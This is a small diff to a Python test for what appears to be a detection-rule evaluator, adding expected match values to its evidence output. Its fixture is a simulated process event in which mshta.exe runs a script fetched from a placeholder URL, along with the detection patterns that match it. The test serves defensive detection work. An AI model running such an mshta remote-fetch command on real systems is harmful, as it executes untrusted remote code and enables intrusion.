@@ -41,5 +41,6 @@ def test_evaluate_explains_and_keeps_columns() -> None:
     assert first.evidence(0) == {
         "selections": ["sel", "other"],
         "fields": {"Image": "C:\\mshta.exe", "CommandLine": "mshta http://x.invalid/"},
+        "values": {"Image": ["\\mshta.exe"], "CommandLine": ["http"]},
     }
     assert "extra" not in first.rows.columns
